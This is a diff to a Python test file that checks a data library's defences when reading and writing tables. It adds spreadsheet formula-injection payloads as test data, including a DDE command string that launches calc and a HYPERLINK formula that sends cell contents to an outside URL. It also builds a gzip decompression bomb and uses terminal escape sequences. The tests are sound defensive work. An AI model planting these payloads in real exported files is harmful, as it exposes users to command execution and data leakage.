@@ -2,10 +2,13 @@
 
 from __future__ import annotations
 
+import csv
 import gzip
 import os
+import re
 import subprocess
 import sys
+import tracemalloc
 
 import numpy as np
 import pandas as pd
@@ -14,7 +17,9 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from hetcal._exceptions import InputError
+from hetcal.io import sources
 from hetcal.io.sources import _with_point
+from hetcal.io.spreadsheets import defused, restored
 from hetcal.io.tables import open_table, read_batches, read_table, table_format
 from hetcal.io.text import infer_column, parse_numbers
 from hetcal.io.writing import TableWriter
@@ -136,6 +141,7 @@ def test_a_file_that_is_not_there_names_the_nearest(tmp_path):
 def test_without_pyarrow_csv_works_and_the_rest_says_what_to_install(tmp_path):
     code = """
 import sys
+import tracemalloc
 sys.modules["pyarrow"] = None
 from hetcal.io import read_table
 print(read_table(sys.argv[1])["a"].tolist())
@@ -284,3 +290,139 @@ def test_an_unknown_decimal_sign_is_refused(tmp_path):
     (tmp_path / "t.csv").write_text("a\n1\n")
     with pytest.raises(InputError, match="decimal sign"):
         read_table(tmp_path / "t.csv", decimal=";")
+
+
+FORMULAS = [
+    "=1+1",
+    '=HYPERLINK("http://example.org/?"&A1)',
+    "@SUM(A1)",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "-1 to 0",
+    "\t=1",
+    "\r=1",
+    " =1+1",
+    "\ufeff=1",
+    "＝1+1",
+    "＠x",
+    "'=1",
+    "''=1",
+]
+HARMLESS = ["-1", "+2.5e-3", "-0,5", "-5 %", "-inf", "-", "a=b", "'tis", "'-1", "New York", ""]
+
+
+@pytest.mark.parametrize("name", ["t.csv", "t.csv.gz", "t.tsv"])
+def test_formulas_are_defused_in_csv_and_read_back(tmp_path, name):
+    path = tmp_path / name
+    cells = FORMULAS + HARMLESS
+    with TableWriter(path) as table:
+        table.write({"=A1": np.array(cells, dtype=object), "n": np.full(len(cells), -1.0)})
+    opened = gzip.open if name.endswith(".gz") else open
+    with opened(path, "rt", encoding="utf-8", newline="") as stream:
+        rows = list(csv.reader(stream, delimiter="\t" if name == "t.tsv" else ","))
+    assert rows[0] == ["'=A1", "n"]
+    assert [row[0] for row in rows[1:]] == ["'" + cell for cell in FORMULAS] + HARMLESS
+    assert {row[1] for row in rows[1:]} == {"-1.0"}
+    [batch] = read_batches(path)
+    assert batch["=A1"].tolist() == cells
+
+
+def test_text_stays_verbatim_where_that_is_asked_for_and_outside_csv(tmp_path):
+    cells = np.array(FORMULAS, dtype=object)
+    with TableWriter(tmp_path / "t.csv", verbatim=True) as table:
+        table.write({"=A1": cells})
+    with (tmp_path / "t.csv").open(encoding="utf-8", newline="") as stream:
+        assert [row[0] for row in csv.reader(stream)] == ["=A1", *FORMULAS]
+    for name in ("t.parquet", "t.arrow"):
+        with TableWriter(tmp_path / name) as table:
+            table.write({"=A1": cells})
+        assert read_table(tmp_path / name)["=A1"].to_pylist() == FORMULAS
+
+
+@given(st.text(alphabet="'=+-@\t\r\n 1a.＝\ufeff", max_size=8))
+def test_what_was_defused_is_restored(text):
+    assert restored(defused(text)) == text
+
+
+def test_a_carriage_return_in_a_cell_is_no_line_end(tmp_path):
+    with TableWriter(tmp_path / "t.csv", verbatim=True) as table:
+        table.write({"a": ["x\r=1", "y\r\nz", "w\n"], "b": ["1", "2", "3"]})
+    [batch] = read_batches(tmp_path / "t.csv")
+    assert batch["a"].tolist() == ["x\r=1", "y\r\nz", "w\n"]
+    assert (tmp_path / "t.csv").read_bytes().endswith(b",3\n")
+
+
+def test_a_terminal_gets_text_without_control_characters(monkeypatch, capsysbinary):
+    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
+    with TableWriter("-") as table:
+        table.write({"a": ["\x1b[2J", "é"]})
+    assert capsysbinary.readouterr().out == "a\n\\x1b[2J\né\n".encode()
+    with pytest.raises(InputError, match="Standard output is a terminal"):
+        TableWriter("-", format="parquet")
+    monkeypatch.undo()
+    with TableWriter("-") as table:
+        table.write({"a": ["\x1b[2J"]})
+    assert capsysbinary.readouterr().out == b"a\n\x1b[2J\n"
+
+
+@pytest.mark.parametrize(
+    ("text", "line"),
+    [
+        ("a" * 3000, 1),
+        ("a,b\n1,2\n" + "3" * 3000 + ",4\n", 3),
+        ("a,b\n" + '"\n","\n",' * 300, 500),  # one record, of many short lines
+    ],
+)
+@pytest.mark.parametrize("name", ["t.csv", "t.csv.gz"])
+def test_a_record_has_a_limit_before_memory_has(tmp_path, monkeypatch, text, line, name):
+    monkeypatch.setattr(sources, "MAX_RECORD", 2000)
+    path = tmp_path / name
+    path.write_bytes(gzip.compress(text.encode()) if name.endswith(".gz") else text.encode())
+    with pytest.raises(InputError, match=r"t\.csv.*: line (\d+) goes on for more.*Parquet") as told:
+        list(read_batches(path))
+    assert abs(int(re.search(r"line (\d+)", str(told.value))[1]) - line) < 20
+
+
+def test_a_small_file_that_unpacks_to_much(tmp_path):
+    """Unpacked by streaming: what is in memory is one record at most."""
+    path = tmp_path / "bomb.csv.gz"
+    with gzip.open(path, "wb", compresslevel=1) as stream:
+        for _ in range(64):
+            stream.write(bytes(2**20))
+    tracemalloc.start()
+    with pytest.raises(InputError, match="line 1 goes on"):
+        list(read_batches(path))
+    peak = tracemalloc.get_traced_memory()[1]
+    tracemalloc.stop()
+    assert peak < 4 * sources.MAX_RECORD  # bytes; the file unpacks to 64 MB
+
+
+def test_a_batch_has_limits_besides_its_rows(tmp_path, monkeypatch):
+    path = tmp_path / "t.csv"
+    path.write_text("a,b\n" + "\n" * 50 + "12345,67890\n" * 10 + "\n" * 50)
+    monkeypatch.setattr(sources, "BATCH_CHARACTERS", 30)
+    assert [len(batch) for batch in read_batches(path)] == [1, 3, 3, 3]
+    monkeypatch.setattr(sources, "BATCH_CHARACTERS", 10**6)
+    monkeypatch.setattr(sources, "BATCH_CELLS", 8)
+    assert [len(batch) for batch in read_batches(path)] == [4, 4, 2]
+    monkeypatch.setattr(sources, "MAX_COLUMNS", 1)
+    with pytest.raises(InputError, match=r"2 columns; a CSV file may have 1\. Leave some out"):
+        list(read_batches(path))
+
+
+def test_a_quote_that_is_never_closed_names_the_line(tmp_path):
+    path = tmp_path / "t.csv"
+    path.write_text('a,b\n1,"2\n' + "3,4\n" * 40_000)
+    with pytest.raises(InputError, match=r"line \d+ cannot be read: field larger.*never closed"):
+        read_table(path)
+
+
+def test_a_damaged_page_of_our_own_parquet_is_noticed(tmp_path):
+    path = tmp_path / "t.parquet"
+    with TableWriter(path) as table:
+        table.write({"a": np.random.default_rng(0).normal(size=1000)})
+    content = bytearray(path.read_bytes())
+    content[3000] ^= 1
+    path.write_bytes(content)
+    with pytest.raises(InputError, match="cannot be read"):
+        read_table(path)
